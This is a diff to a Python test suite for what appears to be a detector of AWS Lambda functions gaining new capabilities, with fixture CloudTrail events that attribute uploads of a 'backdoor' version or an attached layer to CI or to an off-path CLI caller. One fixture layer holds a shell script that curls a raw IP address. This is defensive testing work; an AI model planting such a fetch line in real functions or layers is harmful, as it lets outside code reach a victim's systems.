@@ -237,9 +237,10 @@ def test_gained_capabilities_fire_naming_lines(builder: CaseBuilder) -> None:
     assert missing[0].severity is Severity.MEDIUM
 
 
-def _releases(last_from: str, last_agent: str) -> list[dict]:
+def _releases(last_from: str, last_agent: str, last_hour: int = 10) -> list[dict]:
     """CI's ten days of releasing `notifier` at 10:00 from its runners with Terraform; the
-    tenth uploads version 2's code (its CodeSha256) from `last_from` with `last_agent`."""
+    tenth uploads version 2's code (its CodeSha256) from `last_from` with `last_agent`, at
+    `last_hour`."""
     backdoor = code_sha256(zip_bytes({"app.py": BACKDOOR_PY, "README.txt": "docs"}))
     return [
         trail_event(
@@ -248,7 +249,7 @@ def _releases(last_from: str, last_agent: str) -> list[dict]:
             response={"codeSha256": backdoor if day == 10 else f"sha-{day}"},
             identity=role_identity("ci", f"run-{day}"),
             event_id=f"r{day:02d}",
-            time=f"2026-10-{day:02d}T10:00:00Z",
+            time=f"2026-10-{day:02d}T{last_hour if day == 10 else 10:02d}:00:00Z",
             user_agent=last_agent if day == 10 else TERRAFORM,
             source_ip=last_from if day == 10 else "192.0.2.10",
         )
@@ -265,6 +266,8 @@ def test_a_gain_uploaded_off_the_paths_is_its_uploaders_act(builder: CaseBuilder
     assert finding.time == "2026-10-10T10:00:00Z" and finding.details["event_id"] == "r10"
     assert "Brought in by arn:aws:sts::" in finding.summary
     assert "UpdateFunctionCode at 2026-10-10T10:00:00Z" in finding.summary
+    # the verdict that made it an act: what was new, for the incident to say and join by
+    assert finding.details["baseline"]["new"] == ["network", "tool"]
     code, upload = finding.evidence
     assert code.member == "app.py" and upload.path.startswith("trail/")
 
@@ -306,6 +309,79 @@ def test_a_layer_gain_is_the_act_of_the_call_that_attached_the_layer(
     assert "UpdateFunctionConfiguration at 2026-10-10T03:00:00Z" in finding.summary
 
 
+def test_a_gain_in_a_hotfix_after_hours_stays_exposure(builder: CaseBuilder) -> None:
+    # one new thing (the hour) about CI's own release: a hotfix, not an act to contain
+    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    builder.trail(_releases("192.0.2.10", TERRAFORM, last_hour=2))
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.actor is None and "baseline" not in finding.details
+
+
+def test_a_rolled_back_backdoor_is_the_act_of_its_second_upload(builder: CaseBuilder) -> None:
+    # versions: reader, backdoor (CI, day 5), reader (CI, day 8), the same backdoor bytes
+    # again (day 12 at 03:00 from another network with the CLI)
+    sources = [READER_PY, BACKDOOR_PY, READER_PY, BACKDOOR_PY]
+    _function(builder, "notifier", sources)
+    shas = [code_sha256(zip_bytes({"app.py": s, "README.txt": "docs"})) for s in sources]
+    calls = [
+        trail_event(
+            "UpdateFunctionCode20150331v2",
+            {"functionName": "notifier", "publish": True},
+            response={"codeSha256": shas[version - 1], "version": str(version)}
+            if version else {"codeSha256": f"sha-{day}"},
+            identity=role_identity("ci", f"run-{day}"),
+            event_id=f"r{day:02d}",
+            time=f"2026-10-{day:02d}T{'03' if day == 12 else '10'}:00:00Z",
+            user_agent=UA_CLI if day == 12 else TERRAFORM,
+            source_ip="203.0.113.9" if day == 12 else "192.0.2.10",
+        )
+        for day, version in ((1, 1), (2, 0), (3, 0), (4, 0), (5, 2), (6, 0), (8, 3), (12, 4))
+    ]  # fmt: skip
+    builder.trail(calls)
+    found = {f.resource.rsplit(":", 1)[-1]: f for f in _run(builder, cap_gained.DETECTOR)}
+    assert sorted(found) == ["2", "4"]
+    assert found["2"].actor is None  # CI's release along its path
+    assert found["4"].details["event_id"] == "r12" and found["4"].time == "2026-10-12T03:00:00Z"
+
+
+def test_a_layer_attached_off_the_paths_is_not_hidden_by_a_code_release(
+    builder: CaseBuilder,
+) -> None:
+    # version 2: CI's usual release (a new host name) and a layer (exec, raw IP) someone
+    # attached at 03:00 from another network with the CLI
+    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:1"
+    decoy = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:10"  # not the same layer
+    builder.layer(layer_arn, zip_bytes({"bin/w": "#!/bin/sh\ncurl -s http://198.51.100.9/x\n"}))
+    sources = [READER_PY, READER_PY.replace("orders", "https://api.partner.example/orders")]
+    blobs = [zip_bytes({"app.py": s, "README.txt": "docs"}) for s in sources]
+    for number, blob in enumerate(blobs, start=1):
+        builder.code(blob, "notifier", str(number))
+    builder.versions(
+        "notifier",
+        [
+            function_config("notifier", "1", code=blobs[0], role=ROLE_ARN),
+            function_config("notifier", "2", code=blobs[1], role=ROLE_ARN, layers=[layer_arn]),
+        ],
+    )
+    calls = [*_releases("192.0.2.10", TERRAFORM)]
+    calls[-1]["responseElements"]["codeSha256"] = code_sha256(blobs[1])
+    for n, (arn, address) in enumerate(((layer_arn, "203.0.113.9"), (decoy, "192.0.2.10"))):
+        calls.append(
+            trail_event(
+                "UpdateFunctionConfiguration20150331v2",
+                {"functionName": "notifier", "layers": [arn]},
+                identity=role_identity("ci", f"attach-{n}"),
+                event_id=f"c{n}",
+                time=f"2026-10-10T{3 + n:02d}:00:00Z",
+                user_agent=UA_CLI,
+                source_ip=address,
+            )
+        )
+    builder.trail(calls)
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.severity is Severity.HIGH and finding.details["event_id"] == "c0"
+
+
 def test_a_gain_uploaded_before_a_baseline_stays_exposure(builder: CaseBuilder) -> None:
     _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
     builder.trail(_releases("203.0.113.9", "aws-cli/2.15.0 Python/3.11")[-2:])  # days 9, 10
@@ -321,6 +397,9 @@ def test_a_gain_released_along_the_established_path_stays_exposure(
     (finding,) = _run(builder, cap_gained.DETECTOR)
     assert finding.severity is Severity.HIGH and finding.actor is None and finding.time is None
     assert "Brought in" not in finding.summary and "event_id" not in finding.details
+
+
+UA_CLI = "aws-cli/2.15.0 Python/3.11"
 
 
 def test_benign_reader_is_quiet(builder: CaseBuilder) -> None:
